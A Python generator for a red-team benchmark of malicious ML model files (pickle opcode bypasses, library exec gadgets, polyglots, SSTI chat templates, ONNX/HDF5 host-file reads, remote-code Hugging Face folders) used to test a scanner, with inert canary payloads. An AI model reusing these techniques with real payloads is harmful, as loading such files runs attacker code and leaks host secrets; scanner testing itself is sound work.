"""Red-team corpus B for `mlsecops scan models`: malicious model files and benign saver output.

Written by an outside red-team helper from the public README, `mlsecops --help` and public
research only (picklescan/modelscan/fickling bypass reports, torch `weights_only` and Keras
`safe_mode` advisories, GGUF chat-template SSTI, ONNX external data, HDF5 virtual/external
storage, archive tricks). The scanner's source and tests and red-team set A were not read.

    python bench/independent/gen_model_redteam_b.py DEST

writes DEST/malicious/, DEST/benign/ and DEST/manifest.json (path, label, technique, format).

Every malicious payload is an inert canary (`echo MLSECOPS-RTB-CANARY`, paths under /tmp,
127.0.0.1:9). Malicious files are written from raw opcodes and bytes, or by pickling
`__reduce__` objects (pickling never calls the payload); nothing malicious is ever loaded here.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

CANARY = "echo MLSECOPS-RTB-CANARY"
PY_CANARY = f"__import__('os').system('{CANARY}')"

# ---------------------------------------------------------------------------------------------
# Raw pickle opcode helpers: we write the bytes ourselves so no payload object is ever built.

MARK, STOP, TUPLE, REDUCE, BUILD = b"(", b".", b"t", b"R", b"b"
STACK_GLOBAL, MEMOIZE, EMPTY_DICT, SETITEMS, EMPTY_LIST, APPENDS = (
    b"\x93", b"\x94", b"}", b"u", b"]", b"e")


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def s(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


class Raw(bytes):
    """Opcodes spliced verbatim into an argument list (a global, a nested call)."""


def enc(value: Any) -> bytes:
    """Encode a primitive argument with protocol-2/3 opcodes (no memo, so indices never clash)."""
    if isinstance(value, Raw):
        return bytes(value)
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        if -(1 << 31) <= value < (1 << 31):
            return b"J" + struct.pack("<i", value)
        raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(raw)]) + raw  # LONG1
    if isinstance(value, str):
        return s(value)
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return MARK + b"".join(enc(v) for v in value) + TUPLE
    if isinstance(value, list):
        return EMPTY_LIST + (MARK + b"".join(enc(v) for v in value) + APPENDS if value else b"")
    if isinstance(value, dict):
        body = b"".join(enc(k) + enc(v) for k, v in value.items())
        return EMPTY_DICT + (MARK + body + SETITEMS if value else b"")
    raise TypeError(type(value))


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    return s(module) + s(name) + STACK_GLOBAL


def call(callable_ops: bytes, *args: Any) -> bytes:
    return callable_ops + enc(tuple(args)) + REDUCE


def pkl(body: bytes, protocol: int = 2) -> bytes:
    return proto(protocol) + body + STOP


def system_pickle(protocol: int = 2) -> bytes:
    return pkl(call(glob("os", "system"), CANARY), protocol)


# ---------------------------------------------------------------------------------------------


class Corpus:
    def __init__(self, dest: Path) -> None:
        self.dest = dest
        self.rows: list[dict[str, str]] = []
        (dest / "malicious").mkdir(parents=True, exist_ok=True)
        (dest / "benign").mkdir(parents=True, exist_ok=True)

    def add(self, label: str, name: str, data: bytes, technique: str, fmt: str) -> Path:
        path = self.dest / label / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.rows.append({"path": f"{label}/{name}", "label": label, "technique": technique,
                          "format": fmt})
        return path

    def add_path(self, label: str, name: str, technique: str, fmt: str) -> Path:
        """Register a file or directory the caller writes itself (a saver, a model folder)."""
        path = self.dest / label / name
        path.parent.mkdir(parents=True, exist_ok=True)
        self.rows.append({"path": f"{label}/{name}", "label": label, "technique": technique,
                          "format": fmt})
        return path

    def mal(self, name: str, data: bytes, technique: str, fmt: str) -> Path:
        return self.add("malicious", name, data, technique, fmt)

    def write_manifest(self) -> None:
        (self.dest / "manifest.json").write_text(json.dumps(self.rows, indent=1))


def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def tar_bytes(members: list[tarfile.TarInfo | tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for member in members:
            if isinstance(member, tarfile.TarInfo):
                tf.addfile(member)
            else:
                info = tarfile.TarInfo(member[0])
                info.size = len(member[1])
                tf.addfile(info, io.BytesIO(member[1]))
    return buf.getvalue()


# ------------------------------------------------------------------------------ pickle family


def gen_pickle_opcodes(c: Corpus) -> None:
    t = "pickle-opcode-variant"
    # Protocol-0 INST: callable named inline, arguments after MARK, no REDUCE opcode at all.
    c.mal("inst_opcode.pkl", b"(S'" + CANARY.encode() + b"'\nios\nsystem\n.", t, "pickle")
    # OBJ: MARK, class/callable, args, then `o` calls it.
    c.mal("obj_opcode.pkl", MARK + glob("os", "system") + s(CANARY) + b"o.", t,
          "pickle")
    # UNICODE opcode decodes raw-unicode-escape: the bytes say "sy\u0073tem", the loader "system".
    body = b"Vo\\u0073\nVsy\\u0073tem\n" + STACK_GLOBAL + b"V" + CANARY.encode() + b"\n\x85R."
    c.mal("unicode_escape_names.pkl", body, "pickle-name-escaping", "pickle")
    # STRING opcode goes through escape_decode: 'o\x73' / 'sy\x73tem'.
    body = b"S'o\\x73'\nS'sy\\x73tem'\n" + STACK_GLOBAL + b"S'" + CANARY.encode() + b"'\n\x85R."
    c.mal("string_escape_names.pkl", body, "pickle-name-escaping", "pickle")
    # Names parked in the memo inside an unrelated list, fetched later with BINGET.
    body = (proto(4) + EMPTY_LIST + MARK + b"\x8c\x02os" + MEMOIZE + b"\x8c\x0bfrom-config" + MEMOIZE
            + b"\x8c\x06system" + MEMOIZE + APPENDS + b"0"  # POP the decoy list
            + b"h\x00h\x02" + STACK_GLOBAL + s(CANARY) + b"\x85R.")
    c.mal("memo_indirection.pkl", body, "pickle-memo-indirection", "pickle")
    # Python-2 module names that fix_imports maps (proto < 3): commands -> subprocess.
    c.mal("py2_commands.pkl", pkl(call(glob("commands", "getoutput"), CANARY), 2),
          "pickle-py2-name-mapping", "pickle")
    # cPickle.loads -> pickle.loads on an embedded second pickle.
    c.mal("py2_cpickle_nested.pkl", pkl(call(glob("cPickle", "loads"), system_pickle()), 2),
          "pickle-py2-name-mapping", "pickle")
    # Protocol-4 dotted names resolved through a module the trusted libraries import.
    c.mal("dotted_torch_utils_os.pkl",
          pkl(call(sglob("torch._utils", "os.system"), CANARY), 4),
          "pickle-dotted-attribute-path", "pickle")
    c.mal("dotted_torch_builtins_exec.pt",
          pkl(call(sglob("torch", "builtins.exec"), PY_CANARY), 4),
          "pickle-dotted-attribute-path", "pickle")
    c.mal("dotted_joblib_pickle_loads.joblib",
          pkl(call(sglob("joblib.numpy_pickle", "pickle.loads"), system_pickle()), 4),
          "pickle-dotted-attribute-path", "pickle")
    c.mal("dotted_copyreg_pickle_loads.pkl",
          pkl(call(sglob("copyreg", "pickle.loads"), system_pickle()), 4),
          "pickle-dotted-attribute-path", "pickle")
    # A resolver returns the dangerous callable; only the resolver's name is in the pickle.
    resolved = call(glob("pkgutil", "resolve_name"), "os:system")
    c.mal("pkgutil_resolve_name.pkl", pkl(resolved + enc((CANARY,)) + REDUCE),
          "pickle-resolver-indirection", "pickle")
    resolved = call(glob("pydoc", "locate"), "subprocess.getoutput")
    c.mal("pydoc_locate.pkl", pkl(resolved + enc((CANARY,)) + REDUCE), "pickle-resolver-indirection",
          "pickle")
    mod = call(glob("importlib", "import_module"), "os")
    getter = call(glob("operator", "methodcaller"), "system", CANARY)
    c.mal("methodcaller_import_module.pkl", pkl(getter + MARK + mod + TUPLE + REDUCE),
          "pickle-resolver-indirection", "pickle")
    # Code object rebuilt from marshal bytes and wrapped into a function, then called.
    code = compile(PY_CANARY, "<rtb>", "exec")
    fn = glob("types", "FunctionType") + MARK + call(glob("marshal", "loads"), marshal.dumps(code)) \
        + enc({}) + TUPLE + REDUCE
    c.mal("marshal_function.pkl", pkl(fn + enc(()) + REDUCE, 3), "pickle-code-object", "pickle")


class _Reduce:
    """Pickles as `func(*args)`; the callable is only referenced by name, never called here."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.func, self.args


def gen_pickle_gadgets(c: Corpus) -> None:
    import _osx_support  # type: ignore[import-not-found]
    import imaplib
    import logging.config
    import pydoc
    import timeit
    import urllib.request

    def red(func: Callable[..., Any], *args: Any, protocol: int = 4) -> bytes:
        return pickle.dumps(_Reduce(func, *args), protocol=protocol)

    t = "stdlib-exec-gadget"
    c.mal("timeit_stmt.pkl", red(timeit.timeit, "pass", PY_CANARY), t, "pickle")
    c.mal("pydoc_pipepager.pkl", red(pydoc.pipepager, "x", CANARY), t, "pickle")
    c.mal("osx_support_read_output.pkl", red(_osx_support._read_output, CANARY), t, "pickle")
    c.mal("imaplib_stream.pkl", red(imaplib.IMAP4_stream, CANARY), t, "pickle")
    c.mal("logging_dictconfig_factory.pkl",
          red(logging.config.dictConfig, {"version": 1, "handlers": {
              "h": {"()": "os.system", "command": CANARY}}}), "stdlib-string-import-gadget",
          "pickle")
    c.mal("urlopen_exfil.pkl", red(urllib.request.urlopen, "http://127.0.0.1:9/rtb-canary"),
          "network-gadget", "pickle")
    c.mal("open_write.pkl", pkl(call(glob("builtins", "open"), "/tmp/rtb-canary", "w")),
          "file-write-gadget", "pickle")
    c.mal("ctypes_cdll.pkl", pkl(call(glob("ctypes", "CDLL"), "/tmp/rtb-canary.so")),
          "native-library-load", "pickle")

    # Gadgets inside the libraries whose savers are trusted (numpy, torch, sympy via torch).
    import numpy.f2py.crackfortran as crack
    import numpy.testing._private.utils as nputils
    import sympy
    import torch.fx.graph_module as gm
    import torch.hub

    t = "ml-library-exec-gadget"
    c.mal("numpy_runstring.pkl", red(nputils.runstring, PY_CANARY, {}), t, "pickle")
    c.mal("numpy_f2py_myeval.pkl", red(crack.myeval, PY_CANARY, {}, {}), t, "pickle")
    c.mal("sympy_sympify.pkl", red(sympy.sympify, PY_CANARY), t, "pickle")
    body = {"_code": "\ndef forward(self, x):\n    return x\n",
            "_graphmodule_cls_name": "GraphModule"}
    c.mal("torch_fx_reduce_graph_module.pt",
          red(gm.reduce_graph_module, body, f"import os\nos.system('{CANARY}')\n"), t, "pickle")
    # torch.hub._load_local imports hubconf.py from a directory (trust_repo is never asked).
    c.mal("torch_hub_load_local.pth",
          red(torch.hub._load_local, "/tmp/rtb-canary-repo", "model"), t, "pickle")
    c.mal("torch_ops_load_library.pt",
          pkl(call(sglob("torch._ops", "ops.load_library"), "/tmp/rtb-canary.so"), 4),
          "native-library-load", "pickle")
    # torch emits storage._load_from_bytes itself when a tensor goes through plain pickle; it
    # calls torch.load(weights_only=False) on bytes that are a second, nested pickle.
    c.mal("torch_load_from_bytes_nested.pkl",
          pkl(call(glob("torch.storage", "_load_from_bytes"), system_pickle()), 2),
          "torch-nested-load", "pickle")

    # Functions serialised by value (cloudpickle / dill), called on load.
    import cloudpickle
    import dill

    def payload() -> int:
        return __import__("os").system(CANARY)

    payload.__module__ = "__main__"  # force by-value serialisation
    c.mal("cloudpickle_by_value.pkl",
          cloudpickle.dumps(_Reduce(payload)), "pickle-code-object", "pickle")
    c.mal("dill_by_value.pkl", dill.dumps(_Reduce(payload), recurse=True),
          "pickle-code-object", "pickle")


def gen_containers(c: Corpus, benign_pt: bytes, benign_legacy_pt: bytes) -> None:
    # Polyglot: a pickle prefix before an intact torch zip. torch.load sees no zip magic at
    # offset 0 and falls back to the legacy reader, which unpickles the prefix first.
    c.mal("prefixed_zip_polyglot.pt", system_pickle() + benign_pt,
          "pickle-prefixed-zip-polyglot", "torch-zip")
    c.mal("prefixed_zip_polyglot.bin", system_pickle(4) + b"\0" * 7 + benign_pt,
          "pickle-prefixed-zip-polyglot", "torch-zip")
    # Legacy torch.save: payload in a later pickle of the stream (sys_info / storage keys).
    import pickletools

    stream = io.BytesIO(benign_legacy_pt)
    bounds = []
    for _ in range(5):
        start = stream.tell()
        for op, _arg, _pos in pickletools.genops(stream):
            if op.name == "STOP":
                break
        bounds.append((start, stream.tell()))
    a, b = bounds[2]
    c.mal("legacy_sysinfo_payload.pt", benign_legacy_pt[:a] + system_pickle() + benign_legacy_pt[b:],
          "torch-legacy-later-pickle", "torch-legacy")
    a, b = bounds[4]
    c.mal("legacy_storage_keys_payload.pt",
          benign_legacy_pt[:a] + system_pickle() + benign_legacy_pt[b:],
          "torch-legacy-later-pickle", "torch-legacy")
    # The oldest torch.save format: a tar with members sys_info, pickle, storages, tensors.
    members = [("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)),
               ("pickle", system_pickle()), ("storages", pickle.dumps(0, 2)),
               ("tensors", pickle.dumps(0, 2))]
    c.mal("torch_tar_format.pt", tar_bytes(members), "torch-legacy-tar", "tar")

    # numpy: np.load falls back to pickle.load for a file without NUMPY or zip magic.
    c.mal("raw_pickle.npy", system_pickle(), "npy-raw-pickle-fallback", "npy")

    def npy(header: dict[str, Any] | str, payload: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
        text = header if isinstance(header, str) else repr(header)
        hlen_size = 2 if version == (1, 0) else 4
        raw = text.encode("utf-8" if version == (3, 0) else "latin1")
        pad = 64 - (10 + hlen_size - 2 + len(raw) + 1) % 64
        raw = raw + b" " * pad + b"\n"
        size = struct.pack("<H", len(raw)) if hlen_size == 2 else struct.pack("<I", len(raw))
        return b"\x93NUMPY" + bytes(version) + size + raw + payload

    obj_payload = system_pickle(3)
    c.mal("nested_struct_object.npy",
          npy({"descr": [("a", "<i4"), ("b", [("c", "|O")])], "fortran_order": False,
               "shape": (1,)}, obj_payload), "npy-object-dtype-variant", "npy")
    c.mal("descr_O8_v2.npy",
          npy("{'shape': (1,), 'fortran_order': False, 'descr': '=O8', }", obj_payload, (2, 0)),
          "npy-object-dtype-variant", "npy")
    c.mal("subarray_object_v3.npy",
          npy({"descr": [("\u00e9", "O", (1,))], "fortran_order": False, "shape": (1,)},
              obj_payload, (3, 0)), "npy-object-dtype-variant", "npy")
    obj_npy = npy({"descr": "|O", "fortran_order": False, "shape": (1,)}, obj_payload)
    c.mal("member_without_npy_suffix.npz", zip_bytes([("weights", obj_npy)]),
          "npz-member-variant", "npz")
    c.mal("lzma_member.npz", zip_bytes([("arr_0.npy", obj_npy)], zipfile.ZIP_LZMA),
          "npz-member-variant", "npz")
    c.mal("bzip2_member.npz", zip_bytes([("arr_0.npy", obj_npy)], zipfile.ZIP_BZIP2),
          "npz-member-variant", "npz")

    # pandas.read_pickle picks the decompressor from the suffix: zip (any member), tar, zstd.
    import zstandard

    c.mal("frame.pkl.zip", zip_bytes([("data", system_pickle())], zipfile.ZIP_DEFLATED),
          "pandas-compression-by-suffix", "zip")
    c.mal("frame.pkl.tar", tar_bytes([("frame", system_pickle())]),
          "pandas-compression-by-suffix", "tar")
    c.mal("frame.pkl.zst", zstandard.ZstdCompressor().compress(system_pickle()),
          "pandas-compression-by-suffix", "zstd")
    # gzip stream split across two members in the middle of an opcode.
    raw = system_pickle()
    c.mal("split_members.pkl.gz", gzip.compress(raw[:9]) + gzip.compress(raw[9:]),
          "compressed-stream-split", "gzip")
    # bz2 file of two streams, the payload pickle cut between them.
    c.mal("multistream.pkl.bz2", bz2.compress(raw[:5]) + bz2.compress(raw[5:]),
          "compressed-stream-split", "bz2")
    # joblib reads the legacy lzma "alone" container by its 0x5d 0x00 prefix.
    c.mal("lzma_alone.joblib", lzma.compress(raw, format=lzma.FORMAT_ALONE),
          "joblib-lzma-alone", "lzma")
    # Misleading names for pickles loaded by other stacks (gensim, PaddlePaddle, sklearn docs).
    for name in ("word2vec.model", "classifier.sav", "params.pdparams", "checkpoint"):
        c.mal(name, system_pickle(), "misleading-extension", "pickle")

    # Archive tricks: traversal, symlink, duplicate names.
    c.mal("model_traversal.tar", tar_bytes([("../../../tmp/rtb-canary.pkl", pickle.dumps(1))]),
          "archive-path-traversal", "tar")
    link = tarfile.TarInfo("pytorch_model.bin")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    c.mal("model_symlink.tar.gz", tar_bytes([link], "w:gz"), "archive-symlink", "tar")
    c.mal("bundle_traversal.zip", zip_bytes([("../../rtb_canary.py", f"{PY_CANARY}\n".encode())]),
          "archive-path-traversal", "zip")
    # A `.pth` placed on sys.path runs its `import` lines at interpreter start.
    c.mal("site_hook.pth", f"import os; os.system('{CANARY}')\n".encode(), "pth-site-hook", "text")


# ------------------------------------------------------------------------------------- keras


def lambda_code_b64() -> str:
    code = compile(f"lambda x: ({PY_CANARY}) and x", "<rtb>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def gen_keras(c: Corpus, benign_keras: bytes, benign_h5: Path) -> None:
    import h5py

    with zipfile.ZipFile(io.BytesIO(benign_keras)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    base_cfg = json.loads(parts["config.json"])
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
           "config": {"name": "lam", "trainable": True, "dtype": "float32",
                      "function": {"class_name": "__lambda__",
                                   "config": {"code": lambda_code_b64(), "defaults": None,
                                              "closure": None}},
                      "arguments": {}}}

    def keras_zip(cfg_text: str, extra: list[tuple[str, bytes]] | None = None,
                  dup_first: str | None = None) -> bytes:
        members = []
        if dup_first is not None:
            members.append(("config.json", dup_first.encode()))
        members.append(("config.json", cfg_text.encode()))
        members += [(n, d) for n, d in parts.items() if n != "config.json"]
        members += extra or []
        buf = io.BytesIO()
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # duplicate names are the point
            with zipfile.ZipFile(buf, "w") as zf:
                for n, d in members:
                    zf.writestr(n, d)
        return buf.getvalue()

    def with_layer(layer: dict[str, Any]) -> dict[str, Any]:
        cfg = json.loads(json.dumps(base_cfg))
        cfg["config"]["layers"].append(layer)
        return cfg

    td = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
          "config": {"name": "td", "layer": lam}}
    c.mal("lambda_in_timedistributed.keras", keras_zip(json.dumps(with_layer(td))),
          "keras-lambda-nested", "keras")
    inner = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "inner", "layers": [lam]}}
    c.mal("lambda_in_inner_sequential.keras", keras_zip(json.dumps(with_layer(inner))),
          "keras-lambda-nested", "keras")
    escaped = json.dumps(with_layer(lam)).replace('"Lambda"', '"L\\u0061mbda"')
    c.mal("lambda_json_unicode_escape.keras", keras_zip(escaped), "keras-json-obfuscation", "keras")
    dense_then_lambda = json.dumps(with_layer(lam)).replace(
        '"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"')
    c.mal("lambda_json_duplicate_key.keras", keras_zip(dense_then_lambda),
          "keras-json-obfuscation", "keras")
    # zipfile.getinfo returns the LAST member of a name: a benign config.json first, Lambda last.
    c.mal("duplicate_config_member.keras",
          keras_zip(json.dumps(with_layer(lam)), dup_first=parts["config.json"].decode()),
          "zip-duplicate-member", "keras")
    act = {"module": "keras.layers", "class_name": "Activation", "registered_name": None,
           "config": {"name": "act", "activation": {"module": "builtins", "class_name": "function",
                                                    "config": "exec", "registered_name": "function"}}}
    c.mal("activation_builtins_function.keras", keras_zip(json.dumps(with_layer(act))),
          "keras-function-deserialize", "keras")
    getfile = {"module": "keras.src.utils.file_utils", "class_name": "function",
               "config": "get_file", "registered_name": "function"}
    act2 = json.loads(json.dumps(act))
    act2["config"]["activation"] = getfile
    c.mal("activation_src_get_file.keras", keras_zip(json.dumps(with_layer(act2))),
          "keras-function-deserialize", "keras")
    custom = {"module": "rtb_layers", "class_name": "Evil", "registered_name": "Custom>Evil",
              "config": {"name": "evil"}}
    c.mal("custom_registered_object.keras", keras_zip(json.dumps(with_layer(custom))),
          "keras-custom-object", "keras")

    # Legacy .h5 with Lambda nested in Bidirectional-like wrapper, config stored as bytes.
    with h5py.File(benign_h5, "r") as f:
        legacy_cfg = json.loads(f.attrs["model_config"])
    leg_lam = {"class_name": "Lambda", "config": {
        "name": "lam", "function": [lambda_code_b64(), None, None], "function_type": "lambda",
        "module": None, "output_shape": None, "output_shape_type": "raw", "arguments": {}}}
    wrapped = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": leg_lam}}
    legacy_cfg["config"]["layers"].append(wrapped)
    path = c.add_path("malicious", "lambda_nested_bytes_attr.h5", "keras-lambda-nested", "hdf5")
    path.write_bytes(benign_h5.read_bytes())
    with h5py.File(path, "a") as f:
        f.attrs["model_config"] = json.dumps(legacy_cfg).encode()

    # HDF5 storage that reads host files: virtual dataset and external link.
    path = c.add_path("malicious", "virtual_dataset.weights.h5", "hdf5-virtual-dataset", "hdf5")
    with h5py.File(path, "w") as f:
        layout = h5py.VirtualLayout(shape=(64,), dtype="u1")
        layout[:] = h5py.VirtualSource("/etc/passwd", "data", shape=(64,))
        grp = f.create_group("layers/dense/vars")
        grp.create_virtual_dataset("0", layout)
    path = c.add_path("malicious", "external_link.h5", "hdf5-external-link", "hdf5")
    path.write_bytes(benign_h5.read_bytes())
    with h5py.File(path, "a") as f:
        f["model_weights/rtb"] = h5py.ExternalLink("/tmp/rtb-canary/secret.h5", "/data")
    # A .keras whose weights file is a virtual dataset onto a host file.
    vbuf = io.BytesIO()
    with h5py.File(vbuf, "w") as f:
        layout = h5py.VirtualLayout(shape=(64,), dtype="u1")
        layout[:] = h5py.VirtualSource("/etc/shadow", "data", shape=(64,))
        f.create_group("layers/dense/vars").create_virtual_dataset("0", layout)
    parts_v = dict(parts)
    parts_v["model.weights.h5"] = vbuf.getvalue()
    c.mal("virtual_weights_in_zip.keras",
          zip_bytes(list(parts_v.items())), "hdf5-virtual-dataset", "keras")


# -------------------------------------------------------------------------------------- gguf


def gguf(kvs: list[tuple[str, str]], version: int = 3, big: bool = False) -> bytes:
    e = ">" if big else "<"

    def gstr(text: str) -> bytes:
        raw = text.encode()
        return struct.pack(e + "Q", len(raw)) + raw

    out = b"GGUF" + struct.pack(e + "I", version) + struct.pack(e + "QQ", 0, len(kvs))
    for key, value in kvs:
        out += gstr(key) + struct.pack(e + "I", 8) + gstr(value)
    return out + b"\0" * (32 - len(out) % 32)


SSTI = ("{{ cycler.__init__.__globals__.os.popen('" + CANARY + "').read() }}"
        "{% for m in messages %}{{ m.content }}{% endfor %}")
SSTI_OBF = ("{% set g = '__glo' ~ 'bals__' %}{% set i = '__in' ~ 'it__' %}"
            "{{ (lipsum|attr(g))['o' ~ 's']|attr('po' ~ 'pen')('" + CANARY + "') }}"
            "{% for m in messages %}{{ m.content }}{% endfor %}")


def gen_gguf_onnx_hf(c: Corpus) -> None:
    base = [("general.architecture", "llama"), ("general.name", "tiny")]
    c.mal("named_template.gguf", gguf(base + [("tokenizer.chat_template", "{{ messages }}"),
                                              ("tokenizer.chat_template.rag", SSTI)]),
          "gguf-template-ssti", "gguf")
    c.mal("obfuscated_template.gguf", gguf(base + [("tokenizer.chat_template", SSTI_OBF)]),
          "gguf-template-ssti", "gguf")
    c.mal("big_endian_template.gguf", gguf(base + [("tokenizer.chat_template", SSTI)], big=True),
          "gguf-template-ssti", "gguf")
    c.mal("v2_template.gguf", gguf(base + [("tokenizer.chat_template", SSTI)], version=2),
          "gguf-template-ssti", "gguf")

    # ONNX written field by field (onnx is not installed).
    def varint(n: int) -> bytes:
        out = b""
        while True:
            b, n = n & 0x7F, n >> 7
            out += bytes([b | (0x80 if n else 0)])
            if not n:
                return out

    def fld(num: int, value: int | bytes | str) -> bytes:
        if isinstance(value, int):
            return varint(num << 3) + varint(value)
        raw = value.encode() if isinstance(value, str) else value
        return varint(num << 3 | 2) + varint(len(raw)) + raw

    def ext_tensor(name: str, location: str) -> bytes:
        return (fld(1, 4) + fld(2, 1) + fld(8, name)
                + fld(13, fld(1, "location") + fld(2, location))
                + fld(13, fld(1, "length") + fld(2, "16")) + fld(14, 1))

    def vinfo(name: str) -> bytes:
        return fld(1, name)

    def model(graph: bytes) -> bytes:
        return fld(1, 8) + fld(2, "rtb") + fld(7, graph) + fld(8, fld(1, "") + fld(2, 17))

    const_node = (fld(2, "y") + fld(3, "c") + fld(4, "Constant")
                  + fld(5, fld(1, "value") + fld(5, ext_tensor("v", "../../../../etc/passwd"))
                        + fld(20, 4)))
    c.mal("constant_node_external.onnx",
          model(fld(1, const_node) + fld(2, "g") + fld(12, vinfo("y"))),
          "onnx-external-data-traversal", "onnx")
    sub = fld(2, "then") + fld(5, ext_tensor("w", "/etc/shadow")) + fld(12, vinfo("w"))
    if_node = (fld(1, "cond") + fld(2, "y") + fld(3, "if") + fld(4, "If")
               + fld(5, fld(1, "then_branch") + fld(6, sub) + fld(20, 5))
               + fld(5, fld(1, "else_branch") + fld(6, sub) + fld(20, 5)))
    c.mal("subgraph_external.onnx",
          model(fld(1, if_node) + fld(2, "g") + fld(11, vinfo("cond")) + fld(12, vinfo("y"))),
          "onnx-external-data-traversal", "onnx")
    sparse = fld(1, ext_tensor("sv", "/proc/self/environ")) + fld(2, fld(1, 4) + fld(2, 7)) \
        + fld(3, 4)
    c.mal("sparse_initializer_external.onnx",
          model(fld(2, "g") + fld(15, sparse) + fld(12, vinfo("sv"))),
          "onnx-external-data-traversal", "onnx")
    c.mal("backslash_traversal.onnx",
          model(fld(2, "g") + fld(5, ext_tensor("w", "..\\..\\..\\Windows\\win.ini"))
                + fld(12, vinfo("w"))), "onnx-external-data-traversal", "onnx")

    # Hugging Face folders: remote code, chat templates run by non-sandboxed runtimes.
    d = c.add_path("malicious", "hf_remote_code", "hf-remote-code", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "config.json").write_text(json.dumps({
        "model_type": "rtb", "architectures": ["RtbModel"],
        "auto_map": {"AutoConfig": "configuration_rtb.RtbConfig",
                     "AutoModel": "modeling_rtb.RtbModel"}}))
    (d / "configuration_rtb.py").write_text(
        "from transformers import PretrainedConfig\nimport os\n"
        f"os.system('{CANARY}')\n\nclass RtbConfig(PretrainedConfig):\n    model_type = 'rtb'\n")
    (d / "modeling_rtb.py").write_text(
        "import subprocess\nfrom transformers import PreTrainedModel\n\n"
        "class RtbModel(PreTrainedModel):\n    def __init__(self, config):\n"
        f"        super().__init__(config)\n        subprocess.run({CANARY!r}, shell=True)\n")
    d = c.add_path("malicious", "hf_tokenizer_template", "hf-chat-template-ssti", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "tokenizer_config.json").write_text(json.dumps({
        "tokenizer_class": "PreTrainedTokenizerFast", "chat_template": SSTI}))
    d = c.add_path("malicious", "hf_template_file", "hf-chat-template-ssti", "hf-dir")
    d.mkdir(parents=True, exist_ok=True)
    (d / "tokenizer_config.json").write_text(json.dumps({"tokenizer_class": "PreTrainedTokenizerFast"}))
    (d / "chat_template.jinja").write_text(SSTI_OBF)

    # safetensors crafted headers: offsets past the end and overlapping, header length lie.
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                      "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 1 << 40]}}).encode()
    c.mal("offsets_past_end.safetensors", struct.pack("<Q", len(hdr)) + hdr + b"\0" * 16,
          "safetensors-crafted-header", "safetensors")
    c.mal("header_len_lie.safetensors", struct.pack("<Q", 1 << 62) + b'{"a":1}',
          "safetensors-crafted-header", "safetensors")


# ----------------------------------------------------------------- round 2: parser differentials


def gen_round2(c: Corpus, benign_keras: bytes) -> None:
    # builtins.getattr walking from a trusted torch function to its module globals: no
    # dangerous name appears anywhere in the pickle.
    fn = glob("torch._utils", "_rebuild_tensor_v2")
    getattr_ = glob("builtins", "getattr")
    globs = getattr_ + MARK + fn + s("__globals__") + TUPLE + REDUCE
    get = getattr_ + MARK + globs + s("get") + TUPLE + REDUCE
    os_mod = get + enc(("os",)) + REDUCE
    system = getattr_ + MARK + os_mod + s("system") + TUPLE + REDUCE
    c.mal("getattr_globals_walk.pt", pkl(system + enc((CANARY,)) + REDUCE),
          "pickle-getattr-globals-walk", "pickle")
    # DUP: module and attribute share one string ("timeit", "timeit").
    body = proto(4) + s("timeit") + b"2" + STACK_GLOBAL + enc(("pass", PY_CANARY)) + REDUCE + STOP
    c.mal("dup_opcode_names.pkl", body, "pickle-opcode-variant", "pickle")
    # SHORT_BINSTRING names (protocol-1 byte strings the loader decodes to str).
    body = b"U\x02osU\x06system" + STACK_GLOBAL + b"U" + bytes([len(CANARY)]) + CANARY.encode() \
        + b"\x85R."
    c.mal("binstring_names.pkl", body, "pickle-name-escaping", "pickle")
    # BINUNICODE8 names.
    def u8(text: str) -> bytes:
        return b"\x8d" + struct.pack("<Q", len(text)) + text.encode()
    body = proto(4) + u8("subprocess") + u8("getoutput") + STACK_GLOBAL + u8(CANARY) + b"\x85R."
    c.mal("binunicode8_names.pkl", body, "pickle-name-escaping", "pickle")
    # joblib's compatibility reader (NDArrayWrapper) np.load()s a side file with
    # allow_pickle=True; the side file is a pickle named like documentation.
    side = "NOTES.txt"
    state = {"filename": side, "subclass": Raw(glob("numpy", "ndarray")), "allow_mmap": False}
    body = glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81" + enc(state) + BUILD
    c.mal("compat_wrapper/model.joblib", pkl(body), "joblib-compat-side-file", "pickle")
